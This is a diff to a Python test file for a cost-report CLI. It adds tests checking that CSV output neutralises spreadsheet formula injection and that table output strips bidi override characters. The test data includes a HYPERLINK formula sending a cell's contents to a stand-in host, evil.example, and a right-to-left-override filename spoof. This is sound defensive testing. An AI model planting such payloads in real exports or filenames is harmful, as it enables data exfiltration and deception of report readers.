@@ -4,7 +4,9 @@ factory, as configured), in every format and with a chart."""
 from __future__ import annotations
 
 import asyncio
+import csv
 import dataclasses
+import io
 import xml.etree.ElementTree as ET
 from pathlib import Path
 
@@ -92,6 +94,27 @@ def test_two_tenants_episodes_of_one_id_are_two_tasks(tmp_path: Path) -> None:
     assert result.exit_code == 0, result.output
     [row] = orjson.loads(result.stdout)["rows"]
     assert (row["tasks"], row["outcomes"], row["successes"]) == (2, 2, 1)
+
+
+def test_csv_names_never_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
+    # An unknown task's row keeps the name the client sent (printable, masked): here a formula.
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+    rows = [dataclasses.replace(r, task=name, status=404) for r, name in zip(ledger(), hostile, strict=False)]
+    result = invoke("report", "cost", *WINDOW, "--by", "task", "--format", "csv", "-c", seeded(tmp_path, rows))
+    assert result.exit_code == 0, result.output
+    cells = [line[0] for line in csv.reader(io.StringIO(result.stdout))][1:]
+    assert sorted(cells) == sorted(["'" + name for name in hostile] + ["all"])
+
+
+def test_a_table_shows_names_in_the_order_they_were_written(tmp_path: Path) -> None:
+    """A right-to-left override (U+202E) in a name reversed the rest of its line on a terminal
+    that honours it: ``evil\u202ecod.exe`` read as ``evilexe.doc``, a report line forged."""
+    name = "evil\u202ecod.exe \u2067x\u2069 \u200f"
+    rows = [dataclasses.replace(r, task=name) for r in ledger()[:2]]
+    result = invoke("report", "cost", *WINDOW, "--by", "task", "-c", seeded(tmp_path, rows))
+    assert result.exit_code == 0, result.output
+    assert "evil?cod.exe ?x? ?" in result.stdout
+    assert not any(ch in result.stdout for ch in "\u202e\u2067\u2069\u200f")
 
 
 def test_a_chart_is_written_as_svg(cfg: str, tmp_path: Path) -> None:
